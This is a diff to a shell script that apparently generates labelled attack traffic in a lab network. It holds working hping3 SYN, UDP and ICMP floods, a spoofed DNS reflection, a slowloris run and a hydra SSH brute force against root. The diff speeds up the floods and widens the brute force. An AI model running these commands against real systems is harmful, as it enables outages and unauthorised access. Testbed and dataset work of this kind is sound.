@@ -140,6 +140,10 @@ attack flood_syn_silent syn_flood hping3 500/s spoofed $silent \
 attack flood_syn_one syn_flood hping3 500/s $me $silent flood -S -p 443 -i u2000 -c 8000 $silent
 attack flood_udp udp_flood hping3 1000/s $me $silent flood --udp -d 200 -p 9999 -i u1000 -c 10000 $silent
 attack flood_icmp icmp_flood hping3 1000/s $me $server flood --icmp -d 56 -i u1000 -c 10000 $server
+attack flood_udp_fast udp_flood hping3 "as fast as it goes" $me $silent \
+    flood --udp -d 20 -p 9999 --flood -c 400000 $silent
+attack flood_icmp_fast icmp_flood hping3 "as fast as it goes" $me $silent \
+    flood --icmp -d 20 --flood -c 400000 $silent
 
 # A question for a long text, as if the client had asked it; the answers are the server's own.
 printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03big\x07example\x04test\x00\x00\x10\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00' >"$work/question"
@@ -147,9 +151,9 @@ attack reflection_dns dns_reflection hping3 200/s 198.51.100.2 192.0.2.1 \
     r hping3 -q -n --udp -a 192.0.2.1 -p 53 -d "$(stat -c %s "$work/question")" \
     --file "$work/question" -i u5000 -c 3000 198.51.100.2
 
-for i in $(seq 100); do echo "password$i"; done >"$work/passwords"
-attack brute_ssh ssh_brute_force hydra "4 at a time" $me $server \
-    e hydra -q -I -t 4 -l root -P "$work/passwords" ssh://$server
+for i in $(seq 400); do echo "password$i"; done >"$work/passwords"
+attack brute_ssh ssh_brute_force hydra "16 at a time" $me $server \
+    e hydra -q -I -t 16 -l root -P "$work/passwords" ssh://$server
 attack slow_headers slowloris slowhttptest "50 connections/s" $me $server \
     e slowhttptest -c 100 -H -i 10 -r 50 -l 45 -u http://$server/ -p 5
 tunnel() {
